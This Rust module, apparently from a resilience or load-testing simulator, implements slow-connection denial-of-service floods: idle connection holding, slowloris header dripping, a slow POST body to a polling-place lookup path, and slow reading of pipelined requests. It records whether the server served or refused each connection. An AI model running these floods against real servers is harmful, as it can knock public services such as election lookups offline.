//! Floods that hold connections: as little as possible, for as long as the server is patient.

use std::io;
use std::net::IpAddr;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};

use super::flood::{Fate, Running};
use super::tls::Stream;
use crate::clock::Moment;
use crate::scenario::FloodKind;

/// Between two drips.
const DRIP: Duration = Duration::from_secs(2);
/// Of one drip, when something is sent.
const DRIP_BYTES: &[u8] = b"x";
/// Pages asked for at once by a slow reader, so that there is more than the socket buffers hold.
const SLOW_READ_PAGES: usize = 40;

/// Opens a connection and holds it until the server closes it or the flood is over. Being closed is
/// being refused.
pub(super) async fn hold(running: &Running, source: IpAddr, target: &str) -> Fate {
    let left = running.ends.since(Moment::now());
    let held = async {
        let connecting = tokio::time::timeout(running.patience(), connect(running, source));
        let mut stream = match connecting.await {
            Ok(connected) => connected.ok()?,
            Err(_) => return Some(Fate::GaveUp),
        };
        stream.write_all(start(running, target).as_bytes()).await.ok()?;
        match running.flood.kind {
            FloodKind::Connections => until_closed(&mut *stream).await,
            FloodKind::SlowRead => read_slowly(&mut *stream).await,
            _ => drip(&mut *stream).await,
        }
        Some(Fate::Refused)
    };
    // Still open when the flood ends: the server held it all the time.
    tokio::time::timeout(left, held).await.map_or(Fate::Served, |fate| fate.unwrap_or(Fate::Failed))
}

async fn connect(running: &Running, source: IpAddr) -> io::Result<Box<dyn Stream>> {
    let post = &running.post;
    match post.tls.as_ref().filter(|_| post.plan.scenario.tls) {
        None => Ok(Box::new(post.own.edge(source, post.port).connect_with_narrow_window(source).await?)),
        Some(tls) => {
            let stream = post.own.edge(source, tls.port).connect_with_narrow_window(source).await?;
            // A connection that says nothing does not begin a handshake either.
            if running.flood.kind == FloodKind::Connections {
                return Ok(Box::new(stream));
            }
            Ok(Box::new(tls.shake(tls.of_flooder(), stream).await?))
        }
    }
}

/// What is sent at once.
fn start(running: &Running, target: &str) -> String {
    let site = &running.post.site;
    let get = format!("GET {target} HTTP/1.1\r\nHost: {site}\r\nUser-Agent: Mozilla/5.0\r\n");
    match running.flood.kind {
        FloodKind::SlowHeaders => format!("{get}X-Slow: "),
        FloodKind::SlowBody => format!(
            "POST /polling-place/lookup HTTP/1.1\r\nHost: {site}\r\nUser-Agent: Mozilla/5.0\r\n\
             Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\n"
        ),
        FloodKind::SlowRead => format!("{get}\r\n").repeat(SLOW_READ_PAGES),
        _ => String::new(),
    }
}

async fn until_closed(stream: &mut dyn Stream) {
    let mut byte = [0];
    while matches!(stream.read(&mut byte).await, Ok(1)) {}
}

/// Sends a byte now and then; an answer before the end is as good as a close.
async fn drip(stream: &mut dyn Stream) {
    let mut byte = [0];
    loop {
        tokio::select! {
            _ = stream.read(&mut byte) => return,
            () = tokio::time::sleep(DRIP) => {
                if stream.write_all(DRIP_BYTES).await.is_err() {
                    return;
                }
            }
        }
    }
}

/// Takes a byte now and then. That the server has reset the connection does not show in what is read:
/// there is enough in the buffer for hours.
async fn read_slowly(stream: &mut dyn Stream) {
    let mut byte = [0];
    loop {
        tokio::time::sleep(DRIP).await;
        if stream.is_reset() || !matches!(stream.read(&mut byte).await, Ok(1)) {
            return;
        }
    }
}
